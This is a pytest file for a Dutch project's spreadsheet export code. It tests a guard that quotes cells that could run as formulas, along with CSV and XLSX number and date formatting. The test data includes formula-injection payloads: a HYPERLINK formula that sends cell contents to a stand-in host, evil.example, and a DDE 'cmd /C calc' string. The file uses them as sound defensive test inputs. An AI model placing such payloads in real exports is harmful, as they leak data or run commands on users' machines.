"""The one guard for spreadsheet cells: text that could run as a formula gets a quote; numbers,
also numbers already written as text, stay numbers. Each download is tested with it in
tests/test_exported_cells.py."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from kansrijk.core.numbers import Euros, Percent, Ratio
from kansrijk.core.spreadsheet import (
    DUTCH,
    INTERNATIONAL,
    append_row,
    csv_file,
    csv_flavour,
    csv_writer,
    safe_cell,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
        "+31 50 123 4567",
        "-2+3+cmd|' /C calc'!A0",
        "-3+1",
        "-3 households",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=",
        "-",
    ],
)
def test_text_that_could_start_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+3", "-1.234,5", "-1,234.5", "-12%", "3", "Beijum", ""])
def test_a_number_written_as_text_and_plain_text_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value", [-3, 0, 2.5, -2.5, Decimal("-14000"), True, dt.date(2025, 6, 16), None]
)
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_a_lazy_translation_is_guarded_as_its_text():
    assert safe_cell(gettext_lazy("=1+1")) == "'=1+1"


def test_the_csv_writer_guards_and_quotes_every_cell():
    out = io.StringIO()

    csv_writer(out, INTERNATIONAL).writerows([["=1+1", -3, "-3", "Noord;=1+1"], []])

    assert out.getvalue() == '"\'=1+1","-3","-3","Noord;=1+1"\r\n\r\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-3", "-3", "Noord;=1+1"]


ROW = [
    "=1+1",
    "Noord;Zuid",
    -3,
    Decimal("-1234.5"),
    Euros(-14000),
    Percent.of(9, 20),
    Ratio(Decimal("2.345")),
    dt.date(2025, 6, 16),
]


def test_the_dutch_csv_is_what_excel_in_dutch_opens_as_columns():
    content = csv_file([ROW], DUTCH)

    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text == ('"\'=1+1";"Noord;Zuid";"-3";"-1234,5";"-14000";"45%";"2,35";"16-06-2025"\r\n')


def test_the_international_csv_has_commas_decimal_points_and_iso_dates():
    content = csv_file([ROW], INTERNATIONAL)

    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig") == (
        '"\'=1+1","Noord;Zuid","-3","-1234.5","-14000","45%","2.35","2025-06-16"\r\n'
    )


def test_a_download_without_a_flavour_is_dutch_and_an_unknown_one_is_none():
    assert csv_flavour(None) is DUTCH
    assert csv_flavour("international") is INTERNATIONAL
    assert csv_flavour("klingon") is None


def test_an_xlsx_row_stores_numbers_with_formats_that_show_a_real_minus():
    book = Workbook()
    append_row(book.active, [*ROW[2:], "< 5"])
    out = io.BytesIO()
    book.save(out)

    [row] = load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()

    assert [(c.value, c.data_type, c.number_format) for c in row] == [
        (-3, "n", '#,##0;"−"#,##0'),
        (-1234.5, "n", '#,##0.0;"−"#,##0.0'),
        (-14000, "n", '"€ "#,##0;"€ −"#,##0'),
        (0.45, "n", '0%;"−"0%'),
        (2.35, "n", '0.00;"−"0.00'),
        (dt.datetime(2025, 6, 16), "d", "dd-mm-yyyy"),
        ("< 5", "s", "General"),
    ]


def test_an_xlsx_row_keeps_numbers_and_stores_all_text_as_text():
    book = Workbook()
    append_row(book.active, ["=1+1", "#N/A", -3, Decimal("2.5"), "-3"])
    out = io.BytesIO()
    book.save(out)

    [row] = load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()

    assert [(c.value, c.data_type) for c in row] == [
        ("'=1+1", "s"),
        ("#N/A", "s"),
        (-3, "n"),
        (2.5, "n"),
        ("-3", "s"),
    ]


def test_an_xlsx_row_leaves_out_control_characters_a_sheet_cannot_hold():
    """A name pasted with a control character in it made openpyxl refuse the whole download."""
    book = Workbook()
    append_row(book.active, ["Beijum\x01 Noord", "=1+1\x02"])
    out = io.BytesIO()
    book.save(out)

    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert [cell.value for cell in sheet[1]] == ["Beijum Noord", "'=1+1"]
